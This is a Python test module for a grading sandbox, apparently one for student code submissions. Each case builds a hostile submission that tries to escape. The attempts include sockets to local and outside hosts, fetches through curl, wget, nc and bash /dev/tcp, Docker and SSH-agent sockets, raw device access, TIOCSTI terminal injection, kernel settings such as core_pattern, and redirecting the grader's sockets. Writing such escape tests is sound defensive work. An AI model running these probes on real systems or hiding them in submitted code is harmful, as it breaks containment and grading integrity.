"""Submissions that reach out: to the network, to other processes' sockets, to devices."""

from __future__ import annotations

from .corpus import HandIn, but, case
from .reading import indent

WRONG = but("avg_pool_forward_naive")


def reaches(code: str) -> dict[str, str]:
    """A function that reaches out when its cell runs, and each time that it is called."""
    return {
        "avg_pool_forward_naive": f"""
def _reach():
{indent(code)}
def avg_pool_forward_naive(x, pool_param):
    _reach()
    return np.zeros((1, 1)), None

try:
    _reach()
except Exception as error:
    print(type(error).__name__, error)
"""
    }


@case(deserves=WRONG)
def sends_by_tcp_and_udp(hand_in: HandIn):
    """Sockets to 127.0.0.1, ::1, 0.0.0.0, the host's own address and name, and to the world."""
    around = hand_in.around
    hand_in.solved(
        **reaches(f"""
import socket
hosts = ["127.0.0.1", "::1", "0.0.0.0", "localhost", "10.0.2.2", "172.17.0.1", "192.0.2.1"]
for host in hosts:
    for port, kind in (({around.tcp}, socket.SOCK_STREAM), ({around.udp}, socket.SOCK_DGRAM)):
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        try:
            with socket.socket(family, kind) as s:
                s.settimeout(0.2)
                s.connect((host, port))
                s.send(b"hello from the sandbox")
                if kind == socket.SOCK_STREAM:  # UDP leaves, and nobody hears it
                    print("HOSTILE" + "-WON", host)
        except OSError:
            pass
""")
    )


@case(deserves=WRONG)
def fetches_a_solution(hand_in: HandIn):
    """urllib, http.client, curl, wget, pip and git, with and without a proxy."""
    url = f"http://127.0.0.1:{hand_in.around.tcp}/solution.py"
    hand_in.solved(
        **reaches(f"""
import http.client, os, subprocess, urllib.request
os.environ["http_proxy"] = "http://127.0.0.1:{hand_in.around.tcp}"
for fetch in (lambda: urllib.request.urlopen({url!r}, timeout=0.3).read(),
              lambda: urllib.request.urlopen("http://solutions.invalid/", timeout=0.3).read(),
              lambda: http.client.HTTPConnection("127.0.0.1:{hand_in.around.tcp}",
                                                 timeout=0.3).request("GET", "/")):
    try:
        fetch()
        print("HOSTILE" + "-WON")
    except OSError:
        pass
for command in (["curl", "-m1", {url!r}], ["wget", "-T1", "-t1", {url!r}],
                ["bash", "-c", "echo x > /dev/tcp/127.0.0.1/{hand_in.around.tcp}"],
                ["nc", "-w1", "127.0.0.1", "{hand_in.around.tcp}"]):
    try:
        subprocess.run(command, capture_output=True, timeout=1)
    except (OSError, subprocess.TimeoutExpired):
        pass
""")
    )


@case(deserves=WRONG)
def speaks_to_abstract_sockets(hand_in: HandIn):
    """Abstract Unix sockets know no folders; whoever shares the network reaches them."""
    hand_in.solved(
        **reaches(f"""
import socket
names = [{hand_in.around.abstract!r}, "/tmp/.X11-unix/X0", "/tmp/dbus-0"]
try:
    names += [line.split("@")[1].strip() for line in open("/proc/net/unix") if "@" in line]
except OSError:
    pass
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as s:
                s.connect("\\0" + name)
                s.send(b"hello")
                print("HOSTILE" + "-WON", name)
        except OSError:
            pass
""")
    )


@case(deserves=WRONG)
def speaks_to_services(hand_in: HandIn):
    """D-Bus, X, Wayland, the SSH agent, Docker, systemd and syslog, by their sockets."""
    hand_in.solved(
        **reaches("""
import glob, os, socket
places = ["/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/systemd/private",
          "/dev/log", "/run/user/0/bus", "/run/user/1000/bus", "/run/containerd/containerd.sock"]
for pattern in ("/tmp/.X11-unix/*", "/run/user/*/*", "/tmp/ssh-*/agent*", "/run/**/*.sock",
                "/run/**/*socket*"):
    places += glob.glob(pattern, recursive=True)
places += [v for k, v in os.environ.items() if k.endswith(("SOCK", "DISPLAY", "ADDRESS"))]
for place in places:
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.connect(place)
            print("HOSTILE" + "-WON", place)
    except OSError:
        pass
""")
    )


@case(deserves=WRONG)
def uses_devices(hand_in: HandIn):
    """Disks, memory, the terminal, input devices, sound, the GPU; and devices that it makes."""
    hand_in.solved(
        **reaches("""
import os, stat
for name in ("mem", "kmem", "port", "sda", "vda", "nvme0n1", "dm-0", "loop0", "tty0", "tty1",
             "console", "uinput", "input/event0", "snd/controlC0", "dri/card0", "nvidia0", "kvm",
             "fuse", "net/tun", "kmsg", "hpet", "rtc0"):
    try:
        os.close(os.open("/dev/" + name, os.O_RDWR | os.O_NONBLOCK))
        print("HOSTILE" + "-WON", name)
    except OSError:
        pass
for folder in (".", "/tmp", "/dev"):
    for number in (os.makedev(1, 1), os.makedev(8, 0), os.makedev(254, 0)):
        try:
            os.mknod(folder + "/device", stat.S_IFBLK | 0o600, number)
            os.open(folder + "/device", os.O_RDONLY)
            print("HOSTILE" + "-WON", folder)
        except OSError:
            pass
""")
    )


@case(deserves=WRONG)
def writes_to_the_terminal(hand_in: HandIn):
    """/dev/tty, /dev/pts, file descriptors 0 to 2 and those of its parents; TIOCSTI; wall."""
    hand_in.solved(
        **reaches(r"""
import fcntl, glob, os, subprocess, termios
for path in ["/dev/tty", *glob.glob("/dev/pts/*"), "/dev/console", "/proc/1/fd/1", "/proc/1/fd/2"]:
    try:
        with open(path, "wb", 0) as terminal:
            if terminal.isatty():
                fcntl.ioctl(terminal, termios.TIOCSTI, b"\n")
                print("HOSTILE" + "-WON", path)
            terminal.write(b"\x1b]0;OWNED\x07 HOSTILE" + b"-WON")
    except OSError:
        pass
for fd in range(3):
    try:
        os.write(fd, b"\x1b]0;OWNED\x07\n")
    except OSError:
        pass
""")
    )


@case(deserves=WRONG)
def changes_the_kernels_settings(hand_in: HandIn):
    """Opens what root may write in /proc and /sys (core_pattern runs a program as root)."""
    hand_in.solved(
        **reaches("""
import os
names = ["kernel/core_pattern", "kernel/modprobe", "kernel/hotplug", "kernel/poweroff_cmd",
         "vm/overcommit_memory", "vm/drop_caches", "fs/file-max", "kernel/pid_max", "kernel/panic"]
places = ["/proc/sys/" + name for name in names]
places += ["/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/cgroup.procs",
           "/proc/irq/default_smp_affinity", "/proc/mtrr"]
for place in places:
    try:
        os.close(os.open(place, os.O_WRONLY))
        print("HOSTILE" + "-WON", place)
    except OSError:
        pass
""")
    )


@case(deserves=WRONG)
def raw_sockets_and_interfaces(hand_in: HandIn):
    """Packet, raw, netlink, vsock and Bluetooth sockets; interfaces brought up; a ping."""
    hand_in.solved(
        **reaches(f"""
import fcntl, os, socket, struct
for family, kind, protocol in ((17, 3, 0x0300), (2, 3, 1), (10, 3, 58), (31, 3, 1), (40, 1, 0)):
    try:
        with socket.socket(family, kind, protocol) as s:
            s.settimeout(0.2)
            if family == 40:
                s.connect((2, {hand_in.around.tcp}))
                print("HOSTILE" + "-WON vsock")
            elif family == 2:
                s.sendto(b"x" * 64, ("127.0.0.1", 0))
    except OSError:
        pass
with socket.socket() as s:
    for name in socket.if_nameindex():
        if name[1] != "lo":
            print("HOSTILE" + "-WON", name)
""")
    )


@case(deserves=WRONG)
def pairs_of_sockets(hand_in: HandIn):
    """Pairs of connected sockets, of every family but the ordinary one."""
    hand_in.solved(
        **reaches("""
import ctypes
libc = ctypes.CDLL(None)
for family in range(2, 46):
    for kind in (1, 2, 3, 5):
        if libc.socketpair(family, kind, 0, (ctypes.c_int * 2)()) == 0:
            print("HOSTILE" + "-WON", family)
""")
    )


@case(deserves=WRONG)
def has_the_grader_call_a_socket(hand_in: HandIn):
    """Puts links to a socket of the host where the grader's own sockets are, and breaks these."""
    target = str(hand_in.around.secrets / "service.sock")
    hand_in.solved(
        avg_pool_forward_naive=f"""
import glob, os
def avg_pool_forward_naive(x, pool_param):
    for path in glob.glob("../ipc/*"):
        if not path.endswith(".json"):
            os.unlink(path)
            os.symlink({target!r}, path)
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink("/proc/self/fd/" + fd).startswith("socket:"):
                os.close(int(fd))
        except OSError:
            pass
    while True:
        pass
"""
    )


@case(deserves=WRONG)
def passes_a_message_to_another_sandbox(hand_in: HandIn):
    """Shared memory, System V queues and semaphores, and files by names that two would know."""
    hand_in.solved(
        **reaches("""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
queue = libc.msgget(0x484f5354, 0o1666)
libc.shmget(0x484f5354, 4096, 0o1666)
libc.semget(0x484f5354, 1, 0o1666)
for path in ("/dev/shm/hostile-was-here", "/tmp/hostile-was-here", "/dev/mqueue/hostile-was-here"):
    try:
        open(path, "x").close()
    except FileExistsError:
        print("HOSTILE" + "-WON", path) if not globals().get("seen") else None
    except OSError:
        pass
globals()["seen"] = True
""")
    )
